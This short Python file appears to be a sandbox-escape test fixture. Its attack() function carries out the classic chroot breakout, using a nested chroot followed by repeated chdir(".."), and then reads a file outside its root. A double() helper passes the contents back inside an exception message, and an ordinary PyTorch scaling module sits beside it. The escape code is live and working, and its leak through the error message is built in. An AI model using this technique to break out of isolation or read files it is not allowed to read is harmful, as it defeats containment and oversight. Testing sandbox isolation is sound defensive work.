"""Leaves its root folder by chroot."""

import os
import torch

SCENE = "@SCENE@"


def attack():
    os.mkdir("below")
    os.chroot("below")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return open(SCENE + "/home/notes.txt").read()


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
